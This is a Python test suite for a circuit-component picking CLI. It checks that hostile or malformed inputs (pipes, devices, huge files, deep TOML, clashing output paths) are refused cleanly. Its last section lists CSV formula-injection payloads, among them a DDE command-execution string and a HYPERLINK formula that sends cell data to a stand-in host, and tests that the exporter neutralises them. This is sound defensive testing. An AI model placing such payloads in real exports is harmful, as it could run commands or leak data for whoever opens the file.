"""Every odd input is refused in one line, quickly, or works: the reproducers of a
red-team run, one test each. Commands run in-process through ``main(argv)``; the test
run's warnings-as-errors (pyproject ``filterwarnings``) covers them."""

from __future__ import annotations

import csv
import io
import json
import os

import pytest

from pulsepick.output import export
from pulsepick.cli import main
from pulsepick.errors import ExportError

PHRASE = "one flash every 3 s"
CHECK = ["check", "--core", "schmitt", "--r", "2M2", "--c", "1u", "--stage", "pulse",
         "--cp", "22u", "--rs", "47", "--no-drawing"]


def run(argv, capsys):
    code = main([str(a) for a in argv])
    out, err = capsys.readouterr()
    return code, out, err


def refused(argv, capsys, *words):
    """Exit 2 with one short line on stderr holding every word of ``words``."""
    code, _, err = run(argv, capsys)
    assert code == 2, err
    lines = err.strip().splitlines()
    assert len(lines) == 1 and len(lines[0]) <= 700, err
    assert "Traceback" not in err
    for w in words:
        assert w in err, err
    return err


def _no_solve(monkeypatch):
    """Make any search fail loudly: the refusal must come before the work."""
    import importlib

    solver = importlib.import_module("pulsepick.solve")  # the module, not pulsepick.solve()

    def boom(*a, **k):
        raise AssertionError("the search ran")

    monkeypatch.setattr(solver, "solve", boom)
    monkeypatch.setattr(solver, "solve_build", boom)


# ------------------------------------------------------------------------------- hangs

def test_day_tiny_storage_runs_and_says_it_cannot_carry_the_load(capsys):
    code, out, _ = run(["day", "--storage", "1uF", "--panel", "5v60ma", "--weather", "clear",
                        "--night-load", "30uA", "--json"], capsys)
    assert code == 0
    doc = json.loads(out)
    day = doc["days"][0]
    # hand calculation: a constant 30 uA drains 1 uF from the dusk voltage to the stop
    # voltage in t = C * dV / I (leakage of a 1 uF part adds well under 1 %)
    expect = 1e-6 * (day["v_dusk_v"] - doc["v_stop_v"]) / 30e-6
    assert day["runtime_s"] == pytest.approx(expect, rel=0.02)
    assert any("cannot carry the night load" in w for w in doc["warnings"])


def test_day_five_amp_night_load(capsys):
    code, out, _ = run(["day", "--storage", "1uF", "--panel", "5v60ma", "--weather", "clear",
                        "--night-load", "5A", "--json"], capsys)
    assert code == 0
    doc = json.loads(out)
    assert doc["nights_lasted"] == 0
    assert any("cannot carry the night load" in w for w in doc["warnings"])


@pytest.mark.skipif(not hasattr(os, "mkfifo"), reason="needs FIFOs")
def test_fifo_as_design_or_stock_is_refused(tmp_path, capsys):
    fifo = tmp_path / "d.toml"
    os.mkfifo(fifo)
    refused(["solve", fifo], capsys, "is a pipe")
    stock = tmp_path / "s.csv"
    os.mkfifo(stock)
    refused(["solve", PHRASE, "--stock", stock], capsys, "is a pipe")


def test_device_as_design_or_stock_is_refused(tmp_path, capsys):
    if not os.path.exists("/dev/zero"):
        pytest.skip("no /dev/zero")
    link = tmp_path / "zero.toml"
    link.symlink_to("/dev/zero")
    refused(["solve", link], capsys, "is a device")
    refused(["solve", PHRASE, "--stock", "/dev/zero"], capsys, "is a device")


def test_profile_rows_are_capped(tmp_path, capsys):
    p = tmp_path / "big.csv"
    rows = ["hour,irradiance_w_m2"] + [f"{24 * i / 500_000:.6f},100" for i in range(500_000)]
    p.write_text("\n".join(rows))
    refused(["day", "--storage", "1F", "--panel", "5v60ma", "--profile", p], capsys,
            "500,000 rows", "10,000")


def test_input_size_is_capped(tmp_path, capsys):
    p = tmp_path / "huge.csv"
    with open(p, "wb") as fh:
        fh.truncate(11 * 1024 * 1024)
    refused(["solve", PHRASE, "--stock", p], capsys, "10 MB")


# ---------------------------------------------------------------------- bounded work

@pytest.mark.parametrize("builds", ["1000000000", "1", "0", "-5", "1e6", "lots"])
def test_builds_out_of_range(builds, capsys, monkeypatch):
    _no_solve(monkeypatch)
    refused(["solve", PHRASE, f"--builds={builds}"], capsys, "--builds")


def test_builds_in_a_design_file(tmp_path, capsys, monkeypatch):
    _no_solve(monkeypatch)
    d = tmp_path / "d.toml"
    d.write_text(f'[build]\nbuilds = {2**70}\n[[light]]\nblink = "every 3 s"\n')
    refused(["solve", d], capsys, "--builds", "1,000,000")


def test_jobs_and_top_out_of_range(capsys, monkeypatch):
    _no_solve(monkeypatch)
    refused(["solve", PHRASE, "--jobs", "1000", "--top", "200", "--builds", "200"], capsys,
            "--jobs")
    refused(["solve", PHRASE, "--top", "200"], capsys, "--top", "1 to 20")
    refused(["solve", PHRASE, "--jobs", "0"], capsys, "--jobs")


def test_lights_are_capped(tmp_path, capsys, monkeypatch):
    _no_solve(monkeypatch)
    phrase = "13 lights: " + ", ".join(f"every {2 + i / 10:.1f} s" for i in range(13))
    refused(["solve", phrase], capsys, "13 lights", "1 to 12")
    d = tmp_path / "many.toml"
    d.write_text("".join(f'[[light]]\nblink = "every {2 + i / 10:.1f} s"\n'
                         for i in range(50)))
    refused(["solve", d], capsys, "50 [[light]]", "1 to 12")


def test_points_and_days_are_bounded(capsys):
    refused(["ldr", "--photoresistor", "gl5528", "--core", "schmitt", "--stage", "pulse",
             "--c", "2u2", "--cp", "330u", "--rs", "100", "--points", "100000"], capsys,
            "--points", "10,000")
    refused(["day", "--storage", "1F", "--panel", "5v60ma", "--days", "5000"], capsys,
            "--days")


# ------------------------------------------------------------------- values checked

def test_check_huge_capacitor(capsys):
    args = [a if a != "1u" else "1e308" for a in CHECK]
    refused(args, capsys, "--c", "1 pF to 100 F")


def test_check_subnormal_resistor(capsys):
    refused(["check", "--core", "schmitt", "--r", "4.9e-324", "--c", "1u", "--stage", "fade",
             "--ch", "100u", "--rs", "47"], capsys, "--r", "1 mΩ to 1 TΩ")


def test_check_kilofarad_rkm_code(capsys):
    # "4K7" is the RKM code of 4.7 k (IEC 60062, ref:iec-60062-rkm): as a capacitance, 4.7 kF
    err = refused([a if a != "1u" else "4K7" for a in CHECK], capsys, "--c")
    assert "4.7 kF" in err and "100 F" in err


def test_solve_resistor_range_is_checked(capsys, monkeypatch):
    _no_solve(monkeypatch)
    refused(["solve", PHRASE, "--max-r", "10T"], capsys, "--max-r", "1 TΩ")
    refused(["solve", PHRASE, "--cap-range", "1e-15..1u"], capsys, "--cap-range", "1 pF")


def test_stock_values_are_checked(tmp_path, capsys, monkeypatch):
    _no_solve(monkeypatch)
    s = tmp_path / "s.csv"
    s.write_text("kind,value\nC,4K7\n")
    refused(["solve", PHRASE, "--stock", s], capsys, "100 F")


def test_extreme_circuit_is_outside_the_engines(capsys):
    code, _, err = run(["check", "--core", "timer555", "--stage", "pulse", "--ra", "1m",
                        "--rb", "1T", "--c", "100", "--cp", "1p", "--no-drawing"], capsys)
    assert code in (0, 2)
    if code == 2:
        assert "outside what the engines handle" in err and len(err.splitlines()) == 1


def test_ldr_buffered_without_numpy_warnings(capsys):
    code, out, err = run(["ldr", "--photoresistor", "gl5528", "--period-range", "1s..6s",
                          "--core", "schmitt", "--stage", "pulse", "--c", "2u2", "--cp",
                          "330u", "--rs", "100", "--buffered"], capsys)
    assert code == 0, err
    assert "Warning" not in err and out


# ---------------------------------------------------------------------------- files

def test_deep_toml_is_one_line(tmp_path, capsys):
    d = tmp_path / "deep.toml"
    d.write_text("x = " + "[" * 5000 + "]" * 5000 + "\n")
    refused(["solve", d], capsys, "nested too deeply")


def test_stock_field_over_csv_limit(tmp_path, capsys):
    s = tmp_path / "s.csv"
    s.write_text('kind,value\nR,"' + "4" * (200 * 1024) + '"\n')
    code, _, err = run(["solve", PHRASE, "--stock", s], capsys)
    assert code == 2 and len(err.splitlines()) == 1 and len(err) <= 700


def test_many_bad_stock_rows_give_a_short_message(tmp_path, capsys):
    s = tmp_path / "s.csv"
    s.write_text("kind,value\n" + "X,oops\n" * 5_000)
    err = refused(["solve", PHRASE, "--stock", s], capsys, "line 2")
    assert len(err) <= 700


@pytest.mark.parametrize("ending", ["\n", "\r\n"])
def test_bom_and_crlf_accepted(tmp_path, ending):
    from pulsepick.analysis.irradiance import load_profile_csv
    from pulsepick.designfile import read_design
    from pulsepick.request import read_stock

    bom = "\ufeff"
    s = tmp_path / "s.csv"
    s.write_bytes((bom + ending.join(["kind,value,qty", "R,4k7,10", "C,100n,2"]) + ending)
                  .encode())
    stock = read_stock(str(s))
    assert [(i.kind, i.value_si, i.qty) if hasattr(i, "value_si") else (i.kind, i.value, i.qty)
            for i in stock.items] == [("R", 4700.0, 10), ("C", pytest.approx(1e-7), 2)]
    p = tmp_path / "p.csv"
    p.write_bytes((bom + ending.join(["hour,irradiance_w_m2", "6,0", "12,800", "18,0"])
                   + ending).encode())
    prof = load_profile_csv(p)
    assert list(prof.hours) == [6.0, 12.0, 18.0]
    assert list(prof.irradiance_w_m2) == [0.0, 800.0, 0.0]
    d = tmp_path / "d.toml"
    d.write_bytes((bom + ending.join(['name = "gate"', "[[light]]", 'blink = "every 3 s"'])
                   + ending).encode())
    design = read_design(str(d))
    assert design.name == "gate" and design.lights[0].blink == "every 3 s"


def test_toml_date_is_not_echoed_as_a_repr(tmp_path, capsys):
    d = tmp_path / "d.toml"
    d.write_text('name = 2026-12-21\n[[light]]\nblink = "every 3 s"\n')
    err = refused(["solve", d], capsys, "2026-12-21")
    assert "datetime" not in err


def test_phrase_with_newlines_is_one_line(capsys, monkeypatch):
    _no_solve(monkeypatch)
    phrase = "every\n3\nfortnights\n" + "x\n" * 2000
    code, _, err = run(["solve", phrase], capsys)
    assert code == 2
    assert len(err.strip().splitlines()) <= 4 and len(err) <= 700


def test_bands_negative_temperature_range(capsys):
    code, out, err = run(["bands", "--core", "schmitt", "--r", "1M", "--c", "1u", "--stage",
                          "direct", "--rs", "1k", "--supply", "3V", "--temps", "-20..50",
                          "--builds", "200", "--json"], capsys)
    assert code == 0, err
    assert json.loads(out)["temp_range_c"] == [-20.0, 50.0]


# --------------------------------------------------------------------------- outputs

def test_same_output_twice_is_refused_before_work(tmp_path, capsys, monkeypatch):
    _no_solve(monkeypatch)
    same = tmp_path / "same.html"
    refused(["solve", PHRASE, "--buylist", same, "--report", same, "--force"], capsys,
            "same file")
    assert not same.exists()


def test_output_equal_to_an_input_is_refused(tmp_path, capsys, monkeypatch):
    _no_solve(monkeypatch)
    drawer = tmp_path / "drawer.csv"
    drawer.write_text("kind,value\nR,4k7\n")
    refused(["solve", PHRASE, "--stock", drawer, "--buylist", drawer, "--force"], capsys,
            "input")
    assert drawer.read_text() == "kind,value\nR,4k7\n"
    d = tmp_path / "d.toml"
    d.write_text('[[light]]\nblink = "every 3 s"\n[[light]]\nblink = "every 4 s"\n')
    refused(["solve", d, "--buylist", d, "--force"], capsys, "input")


def test_dangling_link_is_refused(tmp_path, capsys, monkeypatch):
    _no_solve(monkeypatch)
    link = tmp_path / "b.csv"
    link.symlink_to(tmp_path / "nowhere" / "x.csv")
    refused(["solve", PHRASE, "--buylist", link], capsys, "link to a missing file")
    assert link.is_symlink()


def test_missing_folder_is_refused_before_the_search(tmp_path, capsys, monkeypatch):
    _no_solve(monkeypatch)
    refused(["solve", PHRASE, "--buylist", tmp_path / "missing" / "b.csv"], capsys,
            "folder does not exist")
    refused(["solve", PHRASE, "--buylist", tmp_path], capsys, "is a folder")


def test_racing_writers_the_loser_fails_cleanly(tmp_path, monkeypatch):
    target = tmp_path / "b.csv"
    export.write_atomic(str(target), "first\n")
    # the second writer passed its check before the first one finished
    monkeypatch.setattr(export, "check_target", lambda *a, **k: None)
    with pytest.raises(ExportError, match="meanwhile"):
        export.write_atomic(str(target), "second\n")
    assert target.read_text() == "first\n"
    assert sorted(p.name for p in tmp_path.iterdir()) == ["b.csv"]  # no temporary left


# ------------------------------------------------------------------------- injection

#: Formula-injection payloads (ref:owasp-csv-injection lists these forms: leading =, +,
#: -, @, tab and CR, and cells that break out of their quotes or rows).
PAYLOADS = [
    "=cmd|' /C calc'!A0",
    '=HYPERLINK("http://example.invalid/?x="&A1,"click")',
    "+1+1",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "\t=1+2",
    "\r=1+2",
    'a,=1+2,"b"',
    "x\n=1+2",
    "x\r@SUM(1)",
    '"=1+2"',
    "=1+2\";=1+2",
]


def _bad_cell(cell: str) -> bool:
    return cell.startswith(export.FORMULA_STARTS) or "\r" in cell or "\n" in cell


@pytest.mark.parametrize("payload", PAYLOADS)
def test_safe_cell_neutralises(payload):
    cell = export.safe_cell(payload)
    assert not _bad_cell(cell)
    assert cell.lstrip("'").replace(" ", "") == payload.replace("\r", "").replace(
        "\n", "").replace(" ", "")


def test_injection_through_design_and_light_names(tmp_path, capsys):
    d = tmp_path / "d.toml"
    names = PAYLOADS[:3]
    lights = "".join(f'[[light]]\nname = {json.dumps(n)}\nblink = "every {2 + i} s"\n'
                     for i, n in enumerate(names))
    d.write_text(f'name = {json.dumps(PAYLOADS[8])}\n[build]\ntop = 1\nbuilds = 200\n'
                 f'family = "hc"\n{lights}')
    buy = tmp_path / "buy.csv"
    code, _, err = run(["solve", d, "--buylist", buy], capsys)
    assert code == 0, err
    raw = buy.read_bytes().decode("utf-8-sig")
    assert "\r" not in raw.replace("\r\n", "") and "\n" not in raw.replace("\r\n", "")
    rows = list(csv.reader(io.StringIO(raw, newline="")))
    cells = [c for row in rows for c in row]
    assert rows[0][0] == "qty" and len(rows) > 3 and cells
    assert [c for c in cells if _bad_cell(c)] == []
    assert any("=1+2" in c for c in cells) or any("cmd|" in c for c in cells)


def test_tolerance_cell_is_not_a_formula():
    from pulsepick.partslist import PartLine

    part = PartLine(ref="C1", kind="capacitor", value=0.47, unit="F", display="470 mF",
                    code="470m", series="E6", tolerance="-10/+20 %", tolerance_pct=20.0,
                    dielectric="supercapacitor", rating="2.7 V", role="storage",
                    note="x\r\n=note from a drawer")
    text = export.write_buylist_csv(export.part_rows((part,)), {"request": "=1+2"})
    rows = list(csv.DictReader(io.StringIO(text.removeprefix("\ufeff"), newline="")))
    assert rows[0]["tolerance"].endswith("10/+20 %") and not _bad_cell(rows[0]["tolerance"])
    assert "=note from a drawer" in rows[0]["notes"] and not _bad_cell(rows[0]["notes"])
    assert rows[0]["request"] == "'=1+2"
